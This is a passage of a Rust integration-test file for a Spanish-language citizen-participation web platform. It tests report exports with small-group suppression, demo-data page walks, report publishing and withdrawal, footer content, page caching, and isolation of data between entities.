                ("titulo", "Feria de vivienda en Cali"),
                ("fecha", "2025-06-14"),
                ("modalidad", "presencial"),
                ("lugar", "Batallón Pichincha"),
                ("territorio", "Valle del Cauca"),
                ("actividad", "1:12"),
                ("asistentes", "137"),
            ],
            &[],
        )
        .await;
    assert_eq!(event.status, StatusCode::SEE_OTHER, "{}", event.body);
    let page = app.get("/admin/eventos", Some(&auditor)).await;
    assert!(page
        .body
        .contains("href=\"/admin/informes/eventos/informe.xlsx\""));
    let pdf = app
        .get("/admin/informes/eventos/informe.pdf", Some(&auditor))
        .await;
    assert_eq!(pdf.status, StatusCode::OK);
    let words = pdf_text(&pdf.bytes);
    for expected in [
        "Informe de eventos de participación",
        "Feria de vivienda en Cali",
        "Batallón Pichincha",
        "137",
        "Totales por actividad",
    ] {
        assert!(
            words.contains(expected),
            "missing «{expected}» in:\n{words}"
        );
    }
    let xlsx = app
        .get("/admin/informes/eventos/informe.xlsx", Some(&auditor))
        .await;
    let events = xlsx_sheet(&xlsx.bytes, "Eventos");
    let row = xlsx_row(&events, "Feria de vivienda en Cali");
    assert!(matches!(row[1], Data::DateTime(_)), "{:?}", row[1]);
    assert_eq!(row[4], Data::Float(137.0));

    // Channel figures by channel, metric and month.
    let figures =
        "mes;indicador;valor\nenero 2025;interacciones;12.345\n2025-02;interacciones;9876\n";
    let imported = app
        .post_files(
            "/admin/canales",
            Some(&reporter),
            &[("canal", "redes_sociales"), ("actividad", "1:13")],
            &[("archivo", "redes.csv", figures.as_bytes())],
        )
        .await;
    assert_eq!(imported.status, StatusCode::SEE_OTHER, "{}", imported.body);
    let page = app.get("/admin/canales", Some(&auditor)).await;
    assert!(page
        .body
        .contains("href=\"/admin/informes/canales/informe.pdf\""));
    let pdf = app
        .get("/admin/informes/canales/informe.pdf", Some(&auditor))
        .await;
    assert_eq!(pdf.status, StatusCode::OK);
    let words = pdf_text(&pdf.bytes);
    for expected in [
        "Informe de cifras de los canales",
        "Redes sociales",
        "interacciones",
        "enero de 2025",
        "22221",
    ] {
        assert!(
            words.contains(expected),
            "missing «{expected}» in:\n{words}"
        );
    }
    let xlsx = app
        .get("/admin/informes/canales/informe.xlsx", Some(&auditor))
        .await;
    let monthly = xlsx_sheet(&xlsx.bytes, "Por mes");
    let january = monthly
        .rows()
        .find(|r| r.get(2).is_some_and(|c| matches!(c, Data::DateTime(_))))
        .expect("a month as a date cell")
        .to_vec();
    assert_eq!(january[3], Data::Float(12345.0));

    // Staff only; an unknown report or format is not found.
    assert_eq!(
        app.get("/admin/informes/eventos/informe.pdf", None)
            .await
            .status,
        StatusCode::SEE_OTHER
    );
    assert_eq!(
        app.get("/admin/informes/otro/informe.pdf", Some(&auditor))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        app.get("/admin/informes/eventos/informe.doc", Some(&auditor))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
}

async fn the_results_report_of_a_survey_suppresses_small_groups(db: TestDatabase) {
    use calamine::Data;
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let auditor = app.login("auditor").await;
    let id = new_consultation(&app, &admin, &[]).await;
    let admin_path = format!("/admin/consultas/{id}");
    for fields in [
        vec![
            ("texto", "¿Usted es…?"),
            ("tipo", "unica"),
            ("opciones", "Afiliados\nPensionados y retirados\nAcademia"),
            ("obligatoria", "si"),
        ],
        vec![
            ("texto", "¿Cómo califica la información?"),
            ("tipo", "escala"),
        ],
        vec![("texto", "¿Qué mejoraría?"), ("tipo", "texto")],
    ] {
        let added = app
            .post(&format!("{admin_path}/preguntas"), Some(&admin), &fields)
            .await;
        assert_eq!(added.status, StatusCode::SEE_OTHER, "{}", added.body);
    }
    // Five members and three pensioners answer; the three pensioners are a small group.
    let wishes = [
        "Más ferias de vivienda",
        "más ferias de vivienda.",
        "Más  ferias de VIVIENDA",
        "Más ferias de vivienda",
        "Más ferias de vivienda",
        "Horarios más amplios",
        "horarios más amplios",
        "Horarios más amplios",
    ];
    for (i, wish) in wishes.iter().enumerate() {
        let group = if i < 5 {
            "Afiliados"
        } else {
            "Pensionados y retirados"
        };
        let sent = post_from(
            &app,
            &format!("10.7.0.{i}"),
            &format!("/consultas/{id}/respuestas"),
            &[("p1", group), ("p2", "4"), ("p3", wish)],
        )
        .await;
        assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    }
    let page = app.get(&admin_path, Some(&auditor)).await;
    assert!(page
        .body
        .contains(&format!("href=\"{admin_path}/informe/informe.pdf\"")));
    let pdf = app
        .get(&format!("{admin_path}/informe/informe.pdf"), Some(&auditor))
        .await;
    assert_eq!(pdf.status, StatusCode::OK);
    assert_eq!(pdf.headers["content-type"], "application/pdf");
    let words = pdf_text(&pdf.bytes);
    for expected in [
        "Informe de resultados de la consulta",
        "Foro previo a la rendición de cuentas",
        "Participación por día",
        "Participación por grupo de valor",
        "Pensionados y retirados",
        "menos de 5",
        "Pregunta 2. ¿Cómo califica la información?",
        "Promedio: 4 de 5.",
        "«Más ferias de vivienda»",
        "62,5 %",
    ] {
        assert!(
            words.contains(expected),
            "missing «{expected}» in:\n{words}"
        );
    }
    // The same wish is quoted once, with how many said it.
    assert_eq!(words.matches("ferias de vivienda").count(), 1, "{words}");
    let xlsx = app
        .get(
            &format!("{admin_path}/informe/informe.xlsx"),
            Some(&auditor),
        )
        .await;
    assert_eq!(xlsx.status, StatusCode::OK);
    assert_eq!(
        xlsx.headers["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    let groups = xlsx_sheet(&xlsx.bytes, "Por grupo de valor");
    assert_eq!(xlsx_row(&groups, "Afiliados")[1], Data::Float(5.0));
    let small = xlsx_row(&groups, "Pensionados y retirados");
    assert_eq!(small[1], Data::String("menos de 5".into()));
    assert_eq!(
        small[2],
        Data::String("—".into()),
        "a share gives the count away"
    );
    assert_eq!(xlsx_row(&groups, "Academia")[1], Data::Float(0.0));
    let days = xlsx_sheet(&xlsx.bytes, "Por día");
    let today = days.rows().nth(1).expect("a day").to_vec();
    assert!(matches!(today[0], Data::DateTime(_)), "{:?}", today[0]);
    assert_eq!(today[1], Data::Float(8.0));
    let open = xlsx_sheet(&xlsx.bytes, "Pregunta 3");
    assert_eq!(
        xlsx_row(&open, "«Más ferias de vivienda»")[1],
        Data::Float(5.0)
    );
    assert_eq!(
        xlsx_row(&open, "«Horarios más amplios»")[1],
        Data::String("menos de 5".into())
    );
    // Staff only; a consultation that does not exist is not found.
    assert_eq!(
        app.get(&format!("{admin_path}/informe/informe.pdf"), None)
            .await
            .status,
        StatusCode::SEE_OTHER
    );
    assert_eq!(
        app.get(
            "/admin/consultas/999999/informe/informe.pdf",
            Some(&auditor)
        )
        .await
        .status,
        StatusCode::NOT_FOUND
    );
}

async fn the_results_report_of_a_forum_quotes_without_names(db: TestDatabase) {
    use calamine::Data;
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let auditor = app.login("auditor").await;
    let id = new_consultation(
        &app,
        &admin,
        &[("tipo", "foro"), ("moderacion", "posterior")],
    )
    .await;
    let admin_path = format!("/admin/consultas/{id}");
    let topic = app
        .post(
            &format!("{admin_path}/temas"),
            Some(&admin),
            &[
                ("titulo", "Vivienda"),
                ("texto", "¿Qué esperan del subsidio?"),
            ],
        )
        .await;
    assert_eq!(topic.status, StatusCode::SEE_OTHER);
    let topic_id = app.store.forum(id.parse().unwrap()).await.unwrap().0[0]
        .id
        .to_string();
    for i in 0..6 {
        let mut fields = vec![
            ("tema", topic_id.as_str()),
            ("comentario", "Más ferias de vivienda en Cali"),
        ];
        if i == 0 {
            fields.extend([("nombre", "Ana Reservada"), ("autorizacion", "si")]);
        }
        let sent = post_from(
            &app,
            &format!("10.8.0.{i}"),
            &format!("/consultas/{id}/respuestas"),
            &fields,
        )
        .await;
        assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    }
    let page = app.get(&admin_path, Some(&auditor)).await;
    assert!(page
        .body
        .contains(&format!("href=\"{admin_path}/informe/informe.xlsx\"")));
    let pdf = app
        .get(&format!("{admin_path}/informe/informe.pdf"), Some(&auditor))
        .await;
    assert_eq!(pdf.status, StatusCode::OK);
    let words = pdf_text(&pdf.bytes);
    for expected in [
        "Informe de resultados del foro",
        "Comentarios por tema",
        "Tema 1. Vivienda",
        "«Más ferias de vivienda en Cali»",
    ] {
        assert!(
            words.contains(expected),
            "missing «{expected}» in:\n{words}"
        );
    }
    assert!(!words.contains("Ana Reservada"), "a name in the report");
    let xlsx = app
        .get(
            &format!("{admin_path}/informe/informe.xlsx"),
            Some(&auditor),
        )
        .await;
    let topics = xlsx_sheet(&xlsx.bytes, "Por tema");
    assert_eq!(xlsx_row(&topics, "Vivienda")[1], Data::Float(6.0));
    let summary = xlsx_sheet(&xlsx.bytes, "Resumen");
    assert_eq!(
        xlsx_row(&summary, "Comentarios publicados")[1],
        Data::Float(6.0)
    );
}

/// The same-site links of a page (`href="/…"`), without their fragment.
fn site_links(body: &str) -> Vec<String> {
    body.split("href=\"")
        .skip(1)
        .filter_map(|rest| rest.split('"').next())
        .filter(|h| h.starts_with('/') && !h.starts_with("//"))
        .map(|h| h.split('#').next().unwrap_or(h).replace("&amp;", "&"))
        .filter(|h| !h.is_empty())
        .collect()
}

/// Issue 15, part 7: the demo fills every page. Built into the test database through the
/// store, as `participa demo` does, then walked from the portal (as a citizen) and from
/// each role's home (as staff), following the links the pages offer: every page answers.
async fn the_demo_fills_every_page_and_each_answers(db: TestDatabase) {
    let store = Store::connect(&db.url)
        .await
        .unwrap()
        .with_identity_secret(testing::identity_secret(), false)
        .await
        .unwrap();
    let plan = import_plan("seed.txt", SEED, &ReadOptions::default()).unwrap();
    let plan = participa_formats::tags_tsv::apply_tags(
        "etiquetas-2025.tsv",
        include_bytes!("../../../seed/etiquetas-2025.tsv"),
        &plan,
    )
    .unwrap();
    let objects = participa_store::Objects::memory();
    let date = participa_app::dates::today();
    let demo = participa_app::demo::build(&store, &objects, plan, date)
        .await
        .unwrap();
    assert_eq!(demo.survey_answers, 300);
    assert!(demo.reports > 10, "{demo:?}");
    // Dated as people would have acted: each review after its report, each report of an
    // activity and period after the one it replaces, nothing in the future.
    let f = store
        .followup(participa_store::PlanId(demo.plan_id))
        .await
        .unwrap();
    let now = chrono::Utc::now();
    for r in &f.reports {
        assert!(r.at <= now);
        for v in &r.reviews {
            assert!(v.at >= r.at && v.at <= now, "review before its report");
        }
        for later in f
            .reports
            .iter()
            .filter(|o| o.id > r.id && (o.activity, o.period) == (r.activity, r.period))
        {
            assert!(
                later.at >= r.at,
                "a resubmission before the report it replaces"
            );
        }
    }
    let state = AppState::new(
        store.clone(),
        participa_web::Config {
            evidence: participa_web::EvidenceConfig {
                objects,
                limit: participa_store::DEFAULT_EVIDENCE_LIMIT,
            },
            ..Default::default()
        },
    );
    let app = TestApp {
        router: participa_web::router(state),
        store,
        _db: db,
        evidence_dir: None,
        sent: Default::default(),
        state: None,
    };
    let plan = format!("/planes/{}", demo.plan_id);
    let page = app.get(&plan, None).await;
    assert!(page.body.contains("verificado por control interno"));
    assert!(page.body.contains(&format!("{plan}/evidencias/")));
    assert!(page.body.contains(&format!("{plan}/seguimiento/1.pdf")));
    // The reports are dated as the offices would have sent them (at each cut-off), so
    // the progress curve's table has reported progress in past months, not only now.
    let months_with_progress = page
        .body
        .split("<tr><th scope=\"row\">")
        .skip(1)
        .filter(|row| {
            row.split("</td><td>")
                .nth(1)
                .and_then(|cell| cell.split(' ').next())
                .is_some_and(|v| v.chars().any(|c| c.is_ascii_digit() && c != '0'))
        })
        .count();
    assert!(
        months_with_progress >= 3,
        "{months_with_progress} months with reported progress"
    );

    // Walks from `start`, following links under `scope`, at most `limit` pages.
    async fn walk(
        app: &TestApp,
        cookie: Option<&str>,
        start: &str,
        scope: &str,
        limit: usize,
    ) -> std::collections::BTreeSet<String> {
        let mut seen = std::collections::BTreeSet::new();
        let mut queue = std::collections::VecDeque::from([start.to_string()]);
        while let Some(path) = queue.pop_front() {
            if seen.len() >= limit || !seen.insert(path.clone()) {
                continue;
            }
            let r = app.get(&path, cookie).await;
            let ok = r.status == StatusCode::OK
                || (r.status == StatusCode::SEE_OTHER
                    && !r.location.as_deref().unwrap_or("").starts_with("/ingresar"));
            assert!(ok, "{path} answered {} as {cookie:?}", r.status);
            if let Some(to) = r.location.filter(|_| r.status == StatusCode::SEE_OTHER) {
                queue.push_back(to);
            }
            let html = r.body.trim_start().starts_with("<!DOCTYPE html>");
            if html {
                for link in site_links(&r.body) {
                    if link.starts_with(scope) && !link.starts_with("/admin/salir") {
                        queue.push_back(link);
                    }
                }
            }
        }
        seen
    }
    let public = walk(&app, None, "/", "/", 200).await;
    for expected in [
        plan.as_str(),
        "/participa",
        "/participa/calendario",
        "/consultas",
        "/audiencias",
        "/eventos",
        "/sugerencias",
        "/datos",
        "/consulta-codigo",
    ] {
        assert!(
            public.contains(expected),
            "{expected} not reached: {public:?}"
        );
    }
    assert!(
        public.iter().any(|p| p.ends_with("/resultados")),
        "no consultation results reached: {public:?}"
    );
    for (user, limit) in [
        ("planeacion", 250),
        ("control", 60),
        ("cigd", 40),
        ("arcom", 60),
    ] {
        let r = app
            .post(
                "/ingresar",
                None,
                &[
                    ("usuario", user),
                    ("clave", participa_app::demo::DEMO_PASSWORD),
                    ("siguiente", "/admin"),
                ],
            )
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{user}: {}", r.body);
        let cookie = r.cookie.unwrap();
        let seen = walk(&app, Some(&cookie), "/admin", "/admin", limit).await;
        assert!(seen.len() > 5, "{user} reached only {seen:?}");
    }
}

async fn staff_publish_a_report_as_it_is_and_can_withdraw_it(db: TestDatabase) {
    use calamine::Data;
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let auditor = app.login("auditor").await;
    // Nothing is public before staff publish it.
    assert_eq!(
        app.get("/informes/sugerencias/informe.pdf", None)
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    let list = app.get("/informes", None).await;
    assert_eq!(list.status, StatusCode::OK);
    assert!(list.body.contains("Todavía no hay informes publicados."));
    let page = app.get("/admin/sugerencias", Some(&admin)).await;
    assert!(page
        .body
        .contains("action=\"/admin/informes/sugerencias/publicacion\""));
    // Staff see that it is not published, and nothing to withdraw.
    assert!(page.body.contains("Aún no está publicado en el sitio."));
    assert!(!page.body.contains("value=\"retirar\""));
    let read_only = app.get("/admin/sugerencias", Some(&auditor)).await;
    assert!(read_only
        .body
        .contains("Aún no está publicado en el sitio."));
    assert!(!read_only
        .body
        .contains("/admin/informes/sugerencias/publicacion"));
    // Internal control reads reports but does not publish them.
    assert_eq!(
        app.post(
            "/admin/informes/sugerencias/publicacion",
            Some(&auditor),
            &[("accion", "publicar")]
        )
        .await
        .status,
        StatusCode::FORBIDDEN
    );
    let published = app
        .post(
            "/admin/informes/sugerencias/publicacion",
            Some(&admin),
            &[("accion", "publicar")],
        )
        .await;
    assert_eq!(published.status, StatusCode::SEE_OTHER);
    assert_eq!(published.location.as_deref(), Some("/admin/sugerencias"));
    let back = app.get("/admin/sugerencias", Some(&admin)).await;
    assert!(back.body.contains("Informe publicado"), "{}", back.body);
    // Now the page says since when the site offers it, links the public copy and
    // offers to publish today's figures again or to withdraw it.
    assert!(
        back.body.contains("Publicado en el sitio desde el "),
        "{}",
        back.body
    );
    assert!(back
        .body
        .contains("href=\"/informes/sugerencias/informe.pdf\""));
    assert!(back
        .body
        .contains("Publicar de nuevo con las cifras de hoy"));
    assert!(back.body.contains("value=\"retirar\""));
    // Each report has its own state: the events report is still unpublished.
    let events = app.get("/admin/eventos", Some(&admin)).await;
    assert!(events.body.contains("Aún no está publicado en el sitio."));
    let id = new_consultation(&app, &admin, &[]).await;
    let consultation = app
        .post(
            &format!("/admin/consultas/{id}/informe/publicacion"),
            Some(&admin),
            &[("accion", "publicar")],
        )
        .await;
    assert_eq!(consultation.status, StatusCode::SEE_OTHER);
    let staff_view = app
        .get(&format!("/admin/consultas/{id}"), Some(&admin))
        .await;
    assert!(staff_view
        .body
        .contains(&format!("href=\"/consultas/{id}/informe/informe.pdf\"")));
    assert!(staff_view.body.contains(&format!(
        "href=\"/admin/consultas/{id}/informe/informe.xlsx\""
    )));
    // The consultation (open since today) links the report on its public pages, and
    // so does the archive.
    let report_pdf = format!("href=\"/consultas/{id}/informe/informe.pdf\"");
    let citizen = app.get(&format!("/consultas/{id}"), None).await;
    assert_eq!(citizen.status, StatusCode::OK);
    assert!(citizen.body.contains("Informe de resultados publicado el "));
    assert!(citizen.body.contains(&report_pdf), "{}", citizen.body);
    let archive = app.get("/consultas", None).await;
    assert!(archive.body.contains(&report_pdf), "{}", archive.body);
    let list = app.get("/informes", None).await;
    assert!(list
        .body
        .contains("href=\"/informes/sugerencias/informe.pdf\""));
    assert!(list
        .body
        .contains(&format!("href=\"/consultas/{id}/informe/informe.xlsx\"")));
    assert!(list
        .body
        .contains("Informe de resultados de la consulta · Foro previo a la rendición de cuentas"));
    // The public downloads the report as published, even after the data change.
    let sent = post_from(
        &app,
        "10.9.0.1",
        "/sugerencias",
        &[("categoria", "vivienda"), ("texto", "Más ferias")],
    )
    .await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER);
    let pdf = app.get("/informes/sugerencias/informe.pdf", None).await;
    assert_eq!(pdf.status, StatusCode::OK);
    assert_eq!(pdf.headers["content-type"], "application/pdf");
    assert!(pdf_text(&pdf.bytes).contains("Informe de la campaña de sugerencias"));
    let public = app.get("/informes/sugerencias/informe.xlsx", None).await;
    let summary = xlsx_sheet(&public.bytes, "Resumen");
    assert_eq!(
        xlsx_row(&summary, "Sugerencias recibidas")[1],
        Data::Float(0.0)
    );
    let staff = app
        .get("/admin/informes/sugerencias/informe.xlsx", Some(&auditor))
        .await;
    let summary = xlsx_sheet(&staff.bytes, "Resumen");
    assert_eq!(
        xlsx_row(&summary, "Sugerencias recibidas")[1],
        Data::Float(1.0)
    );
    let results = app
        .get(&format!("/consultas/{id}/informe/informe.pdf"), None)
        .await;
    assert_eq!(results.status, StatusCode::OK);
    // Withdrawn, it is gone from the public site; an unknown kind is not found.
    let withdrawn = app
        .post(
            "/admin/informes/sugerencias/publicacion",
            Some(&admin),
            &[("accion", "retirar")],
        )
        .await;
    assert_eq!(withdrawn.status, StatusCode::SEE_OTHER);
    assert_eq!(
        app.get("/informes/sugerencias/informe.pdf", None)
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    assert!(!app
        .get("/informes", None)
        .await
        .body
        .contains("/informes/sugerencias/informe.pdf"));
    let after = app.get("/admin/sugerencias", Some(&admin)).await;
    assert!(after.body.contains("Aún no está publicado en el sitio."));
    assert_eq!(
        app.post(
            "/admin/informes/otro/publicacion",
            Some(&admin),
            &[("accion", "publicar")]
        )
        .await
        .status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        app.post(
            "/admin/informes/eventos/publicacion",
            Some(&admin),
            &[("accion", "x")]
        )
        .await
        .status,
        StatusCode::BAD_REQUEST
    );
}

/// Issue 15, part 3: every page's footer dates the entity's latest change to the site;
/// sign-ins and accounts do not move the date.
async fn the_footer_dates_the_entitys_latest_change_not_a_sign_in(db: TestDatabase) {
    let app = TestApp::without_plan(db).await;
    let fresh = app.get("/", None).await;
    assert!(
        !fresh.body.contains("Última actualización"),
        "nothing changed yet"
    );
    // A change made long ago (the log is append-only, so it is written as it was).
    participa_store::on_conn!(app.store.conn().await.unwrap(), |pool| {
        sqlx::query(
            "INSERT INTO audit_log (at, username, action, subject, entity_id) \
             VALUES ($1, 'sistema', 'plan.update_header', 'plan 1', $2)",
        )
        .bind(
            chrono::DateTime::parse_from_rfc3339("2025-03-14T15:00:00Z")
                .unwrap()
                .to_utc(),
        )
        .bind(app.store.entity_id())
        .execute(&mut *pool)
        .await
        .unwrap();
    });
    // Written behind this process's back (another server, the command line): the
    // portal, cached until the audit log moves, asks the database at most once a second
    // while this server answers no write, so it is drawn again with the new date within
    // about a second.
    let written = std::time::Instant::now();
    let portal = loop {
        let portal = app.get("/", None).await;
        if portal.body.contains("Última actualización") {
            break portal;
        }
        assert!(
            written.elapsed() < std::time::Duration::from_secs(3),
            "the cached portal kept an old date for 3 s"
        );
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    assert!(
        portal
            .body
            .contains("Última actualización: <time datetime=\"2025-03-14\">14 mar 2025</time>."),
        "the cached portal kept an old date"
    );
    let admin = app.login("admin").await;
    let c = Some(admin.as_str());
    for (path, cookie) in [("/", None), ("/admin/planes", c)] {
        let page = app.get(path, cookie).await;
        assert!(
            page.body.contains(
                "Última actualización: <time datetime=\"2025-03-14\">14 mar 2025</time>."
            ),
            "{path}: a sign-in dated the site"
        );
    }
    add_test_holiday(&app, c).await;
    let today = participa_app::dates::today();
    let line = format!(
        "Última actualización: <time datetime=\"{today}\">{}</time>.",
        participa_app::dates::fecha(today)
    );
    for (path, cookie) in [("/", None), ("/sugerencias", None), ("/admin/planes", c)] {
        let page = app.get(path, cookie).await;
        assert!(page.body.contains(&line), "{path}: {line}");
    }
}

/// Issue 15, part 3: the entity's contact channels and hours in every page's footer and
/// its logo in the header, as configured; nothing of them when they are not.
async fn the_footer_and_header_show_the_entity_as_configured(db: TestDatabase) {
    let mut app = TestApp::new(db).await;
    let plain = app.get("/", None).await;
    assert!(!plain.body.contains("<address>"));
    assert!(!plain.body.contains("/static/logo"));
    assert_eq!(
        app.get("/static/logo", None).await.status,
        StatusCode::NOT_FOUND
    );
    let png = b"\x89PNG\r\n\x1a\nlogo".to_vec();
    let state = AppState::new(
        app.store.clone(),
        participa_web::Config {
            contact: participa_web::EntityContact {
                address: "Carrera 54 # 26-54, Bogotá D.C.".into(),
                phone: "601 555 0100 <línea gratuita>".into(),
                email: "atencion@entidad.gov.co".into(),
                hours: "Lunes a viernes, 8:00 a. m. a 5:00 p. m.".into(),
            },
            logo: Some((png.clone().into(), "image/png")),
            ..Default::default()
        },
    );
    app.router = participa_web::router(state);
    let admin = app.login("admin").await;
    for (path, cookie) in [
        ("/", None),
        ("/sugerencias", None),
        ("/admin/planes", Some(&admin)),
    ] {
        let page = app.get(path, cookie.map(|c| c.as_str())).await;
        assert!(
            page.body
                .contains("Dirección: Carrera 54 # 26-54, Bogotá D.C."),
            "{path}"
        );
        assert!(page.body.contains("línea gratuita"), "{path}");
        assert!(!page.body.contains("<línea"), "escaped: {path}");
        assert!(page
            .body
            .contains("href=\"mailto:atencion@entidad.gov.co\""));
        assert!(page.body.contains("Horario de atención: Lunes a viernes"));
        assert!(page
            .body
            .contains("<img src=\"/static/logo?v=0\" alt=\"Logo de Caja Honor\""));
    }
    let logo = app.get("/static/logo", None).await;
    assert_eq!(logo.status, StatusCode::OK);
    assert_eq!(logo.bytes, png);
    assert_eq!(
        participa_web::logo_media_type("logo.PNG"),
        Some("image/png")
    );
    assert_eq!(
        participa_web::logo_media_type("logo.svg"),
        None,
        "SVG may carry script"
    );
}

/// Issue 17, point 3: in front of every site, a public page asked again within a moment
/// by someone with no cookie is answered with the bytes already drawn (each answer with
/// its own request id), other entities' pages apart; a write the site answers shows at
/// once, and staff (with their cookie) always get their page drawn.
async fn a_public_page_is_kept_for_a_moment_and_a_write_shows_at_once(db: TestDatabase) {
    let mut app = TestApp::new(db).await;
    with_second_entity(&mut app).await;
    let first = app.get("/", None).await;
    let again = app.get("/", None).await;
    assert_eq!(first.status, StatusCode::OK);
    assert_eq!(first.body, again.body);
    assert_ne!(
        first.headers["x-request-id"], again.headers["x-request-id"],
        "each answer its own id"
    );
    let tunja = app.get("/e/tunja/", None).await;
    assert!(tunja.body.contains("Alcaldía de Tunja"));
    assert_ne!(tunja.body, first.body, "each entity's page apart");
    // A hearing created through the site shows on its portal at once.
    let cookie = app.login("admin").await;
    let title = "Audiencia de prueba de la página guardada";
    let day = (participa_app::dates::today() + chrono::Duration::days(20)).to_string();
    let created = app
        .post(
            "/admin/audiencias",
            Some(&cookie),
            &[
                ("titulo", title),
                ("fecha", &day),
                ("hora", "10:00"),
                ("lugar", "Bogotá"),
                ("transmision", ""),
                ("informe", ""),
                ("informe_fecha", ""),
                ("convocatoria", "Sitio web"),
                ("actividad", "1:4"),
            ],
        )
        .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    let portal = app.get("/", None).await;
    assert!(
        portal.body.contains(title),
        "the kept portal was not redrawn"
    );
    assert!(app.get("/", Some(&cookie)).await.body.contains(title));
}

/// Adds entity «Alcaldía de Tunja» (`/e/tunja/`, host `participa.tunja.test`) with its
/// own staff (`tunja-admin`, `tunja-reporter` for ARCOM, `tunja-auditor`,
/// `tunja-approver`), and makes the app the whole deployment's router. Returns the new
/// entity's store.
async fn with_second_entity(app: &mut TestApp) -> Store {
    let id = app
        .store
        .add_entity(
            &participa_store::EntityData {
                slug: "tunja".into(),
                name: "Alcaldía de Tunja".into(),
                hosts: vec!["participa.tunja.test".into()],
                ..Default::default()
            },
            &Actor::system(),
        )
        .await
        .unwrap();
    let tunja = app.store.for_entity(id);
    let hash = password_auth::generate_hash(PASSWORD);
    for (name, role, offices) in [
        ("tunja-admin", Role::Admin, &[][..]),
        ("tunja-reporter", Role::Reporter, &["ARCOM"][..]),
        ("tunja-auditor", Role::Auditor, &[][..]),
        ("tunja-approver", Role::Approver, &[][..]),
    ] {
        testing::create_user(
            &tunja,
            name,
            &format!("Usuario {name}"),
            role,
            offices,
            &hash,
        )
        .await;
    }
    let platform = participa_web::platform::Platform::new(
        app.store.clone(),
        participa_web::Config {
            // Every form is sent many times here: no per-client limit.
            public_limit: participa_web::PublicLimit {
                burst: 0,
                per_minute: 1,
            },
            ..Default::default()
        },
    )
    .await
    .unwrap();
    app.router = platform.router();
    tunja
}

impl TestApp {
    /// Signs in at the site under `prefix` (`/e/tunja`).
    async fn login_at(&self, prefix: &str, user: &str) -> String {
        let r = self
            .post(
                &format!("{prefix}/ingresar"),
                None,
                &[
                    ("usuario", user),
                    ("clave", PASSWORD),
                    ("siguiente", "/admin"),
                ],
            )
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "login {user}: {}", r.body);
        assert_eq!(
            r.location.as_deref(),
            Some(format!("{prefix}/admin").as_str())
        );
        r.cookie.expect("a session cookie")
    }
}

/// Route `template` with its parameters filled: ids from `ids`, other parameters
/// (a report kind, a file, a part of the Menú Participa) with a fixed value.
fn fill_route(template: &str, ids: &dyn Fn(&str, &str) -> String) -> String {
    template
        .split('/')
        .scan(String::new(), |before, seg| {
            let out = match seg.strip_prefix('{').and_then(|s| s.strip_suffix('}')) {
                Some(param) => ids(before, param),
                None => seg.to_string(),
            };
            *before = seg.to_string();
            Some(out)
        })
        .collect::<Vec<_>>()
        .join("/")
}

/// Point 4 of the national platform: signed in at entity B (every role, and nobody),
/// every route that names an identifier answers for entity A's identifiers exactly as
/// for identifiers that exist nowhere (404, or the same refusal or sign-in), and
/// nothing B's people send changes A.
async fn another_entitys_ids_are_missing_on_every_route_for_every_role(db: TestDatabase) {
    use participa_store::SuggestionFilter;
    let mut app = TestApp::new(db).await;
    participation_fixtures(&app).await;
    let a = app.store.clone();
    let suggestion = a.suggestions(&SuggestionFilter::default()).await.unwrap()[0].clone();
    let hearing = a.hearings().await.unwrap()[0].id;
    let question = a.questions(hearing).await.unwrap()[0].clone();
    let registration_code = "IN-AAAA-AAAA";
    let a_user = a.user_for_login("reporter").await.unwrap().unwrap().0.id;
    let a_changes = a.last_change().await.unwrap();
    let a_audit = a
        .audit_entries(&participa_store::AuditFilter::default())
        .await
        .unwrap()
        .len();
    with_second_entity(&mut app).await;
    let mine = |before: &str, param: &str| -> String {
        match (before, param) {
            ("usuarios", "id") => a_user.to_string(),
            ("sugerencias", "id") => suggestion.id.to_string(),
            ("audiencias", "id") => hearing.to_string(),
            ("consultas", "id") => "2".into(),
            (_, "question") => question.id.to_string(),
            (_, "code") if before == "datos" => registration_code.into(),
            (_, "code") => suggestion.code.clone(),
            (_, "number") => "13".into(),
            (_, "period") => "1".into(),
            (_, "comment") | (_, "topic") => "1".into(),
            (_, other) => fixed(other),
        }
    };
    let nowhere = |before: &str, param: &str| -> String {
        match param {
            "id" | "question" | "comment" | "topic" => "999999".into(),
            "number" => "99".into(),
            "period" => "9".into(),
            "code" if before == "datos" => "IN-ZZZZ-ZZZZ".into(),
            "code" => "SG-ZZZZ-ZZZZ".into(),
            other => fixed(other),
        }
    };
    fn fixed(param: &str) -> String {
        match param {
            "kind" => "sugerencias",
            "file" => "informe.pdf",
            "part" => "informacion",
            "token" => "0123456789abcdef",
            "version" => "1",
            "format" => "csv",
            _ => "1",
        }
        .into()
    }
    let table = participa_web::route_table();
    let named: Vec<_> = table.iter().filter(|r| r.path.contains('{')).collect();
    assert!(
        named.len() > 60,
        "{} routes name an identifier",
        named.len()
    );
    let mut failures = Vec::new();
    let mut missing = 0;
    for user in [
        None,
        Some("tunja-admin"),
        Some("tunja-reporter"),
        Some("tunja-auditor"),
        Some("tunja-approver"),
    ] {
        let cookie = match user {
            Some(u) => Some(app.login_at("/e/tunja", u).await),
            None => None,
        };
        let c = cookie.as_deref();
        for route in &named {
            let theirs = format!("/e/tunja{}", fill_route(&route.path, &mine));
            let none = format!("/e/tunja{}", fill_route(&route.path, &nowhere));
            let (r_a, r_none) = match route.method {
                "GET" => (app.get(&theirs, c).await, app.get(&none, c).await),
                _ => (
                    app.post(&theirs, c, &[]).await,
                    app.post(&none, c, &[]).await,
                ),
            };
            let class = |r: &Reply| match r.status.as_u16() {
                303 if r
                    .location
                    .as_deref()
                    .is_some_and(|l| l.starts_with("/e/tunja/ingresar")) =>
                {
                    "sign-in".to_string()
                }
                s => s.to_string(),
